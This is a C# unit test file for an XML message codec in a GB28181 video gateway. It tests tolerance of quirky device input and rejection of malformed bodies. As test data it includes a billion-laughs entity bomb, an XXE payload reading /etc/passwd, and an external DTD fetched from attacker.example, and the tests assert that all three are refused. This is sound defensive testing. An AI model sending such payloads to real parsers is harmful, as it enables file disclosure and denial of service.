using System.Text;
using Gb28181Gateway.Protocol.Manscdp;

namespace Gb28181Gateway.Protocol.Tests;

/// <summary>What devices really send (tolerated) and what attackers send (refused, never expanded).</summary>
public sealed class ManscdpRobustnessTests
{
    private static byte[] Bytes(string xml) => Encoding.UTF8.GetBytes(xml);

    [Fact]
    public void Hikvision_unescaped_ampersand_in_a_name_is_kept_literally_and_escaped_on_the_way_out()
    {
        var body = Bytes("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\r\n<Response><CmdType>Catalog</CmdType><SN>3</SN><DeviceID>34020000001180000001</DeviceID><SumNum>1</SumNum>"
            + "<DeviceList Num=\"1\"><Item><DeviceID>34020000001310000001</DeviceID><Name>A&B 门口 &amp; 走廊 R&D;x</Name></Item></DeviceList></Response>");

        var item = Assert.Single(Assert.IsType<CatalogResponse>(ManscdpCodec.Parse(body)).Items);

        Assert.Equal("A&B 门口 & 走廊 R&D;x", item.Name);
        var written = Encoding.UTF8.GetString(ManscdpCodec.Encode(new CatalogResponse { Sn = 3, DeviceId = "34020000001180000001", Items = [item] }, Text.GbCharset.Utf8));
        Assert.Contains("<Name>A&amp;B 门口 &amp; 走廊 R&amp;D;x</Name>", written, StringComparison.Ordinal);
    }

    [Fact]
    public void Stray_whitespace_lower_case_root_and_no_declaration_are_tolerated()
    {
        var body = Bytes("\r\n  <notify>\n\t<CmdType> Keepalive </CmdType>\n<SN> 12 </SN>\n<DeviceID>34020000001320000001</DeviceID>\n<Status>OK</Status>\n</notify>\r\n\0");

        var keepalive = Assert.IsType<KeepaliveNotify>(ManscdpCodec.Parse(body));

        Assert.Equal(new ManscdpHeader(ManscdpRoot.Notify, "Keepalive", 12, "34020000001320000001"), keepalive.Header);
        Assert.Equal(keepalive.Header, ManscdpCodec.Peek(body));
    }

    [Theory]
    [InlineData("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\"><!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">]>\n<Notify><CmdType>Keepalive</CmdType><SN>1</SN><DeviceID>&lol3;</DeviceID></Notify>")]
    [InlineData("<?xml version=\"1.0\"?>\n<!DOCTYPE Notify [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n<Notify><CmdType>Keepalive</CmdType><SN>1</SN><DeviceID>&xxe;</DeviceID></Notify>")]
    [InlineData("<!DOCTYPE Notify SYSTEM \"http://attacker.example/x.dtd\"><Notify><CmdType>Keepalive</CmdType><SN>1</SN><DeviceID>1</DeviceID></Notify>")]
    public void Dtds_and_entities_are_rejected_not_expanded(string xml)
    {
        var error = Assert.Throws<ManscdpFormatException>(() => ManscdpCodec.Parse(Bytes(xml)));
        Assert.Contains("DTD", error.Message, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("root:", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Undeclared_named_entities_stay_literal_text()
    {
        var body = Bytes("<Notify><CmdType>Keepalive</CmdType><SN>1</SN><DeviceID>34020000001320000001</DeviceID><Status>&xxe;</Status></Notify>");

        Assert.Equal("&xxe;", Assert.IsType<KeepaliveNotify>(ManscdpCodec.Parse(body)).Status);
    }

    [Theory]
    [InlineData("", "empty")]
    [InlineData("   \r\n", "no root element")]
    [InlineData("not xml at all", "text 'not xml at all'")]
    [InlineData("<Notify><CmdType>Keepalive</CmdType><SN>1</SN><DeviceID>1</DeviceID>", "Notify")]
    [InlineData("<Notify><CmdType>Keepalive</CmdType><SN>1</SN><DeviceID>1</Device></Notify>", "DeviceID")]
    [InlineData("<Message><CmdType>Keepalive</CmdType><SN>1</SN></Message>", "Message")]
    [InlineData("<Notify><SN>1</SN><DeviceID>1</DeviceID></Notify>", "CmdType")]
    [InlineData("<Notify><CmdType>Keepalive</CmdType><DeviceID>1</DeviceID></Notify>", "SN")]
    [InlineData("<Notify><CmdType>Keepalive</CmdType><SN>-4</SN><DeviceID>1</DeviceID></Notify>", "SN")]
    [InlineData("<Notify><CmdType></CmdType><SN>1</SN></Notify>", "CmdType")]
    [InlineData("<Notify><CmdType>Keepalive</CmdType><SN>1</SN><DeviceID a=\"1>x</DeviceID></Notify>", "start tag <DeviceID")]
    public void Malformed_bodies_raise_a_format_exception_that_says_what_is_wrong(string xml, string mentions)
    {
        var error = Assert.Throws<ManscdpFormatException>(() => ManscdpCodec.Parse(Bytes(xml)));
        Assert.Contains(mentions, error.Message, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public void Peek_refuses_a_body_without_a_command_type()
    {
        Assert.Throws<ManscdpFormatException>(() => ManscdpCodec.Peek(Bytes("<Notify><SN>1</SN></Notify>")));
        Assert.Throws<ManscdpFormatException>(() => ManscdpCodec.Peek(Bytes("<!DOCTYPE x [<!ENTITY a \"b\">]><Notify><CmdType>Keepalive</CmdType><SN>1</SN></Notify>")));
    }

    [Fact]
    public void Unknown_command_types_keep_their_whole_element_tree()
    {
        var body = Bytes("<Query><CmdType>HomePositionQuery</CmdType><SN>9</SN><DeviceID>34020000001320000001</DeviceID><Extra a=\"1\"><Deep>x</Deep></Extra></Query>");

        var message = Assert.IsType<ManscdpUnknownMessage>(ManscdpCodec.Parse(body));

        Assert.Equal(new ManscdpHeader(ManscdpRoot.Query, "HomePositionQuery", 9, "34020000001320000001"), message.Header);
        var extra = Assert.Single(message.Extensions);
        Assert.Equal("Extra", extra.Name);
        Assert.Equal(new ManscdpAttribute("a", "1"), Assert.Single(extra.Attributes));
        Assert.Equal("x", extra.Child("Deep")?.Text);
        Assert.Equal(message, ManscdpCodec.Parse(ManscdpCodec.Encode(message, Text.GbCharset.Gb2312)));
    }
}
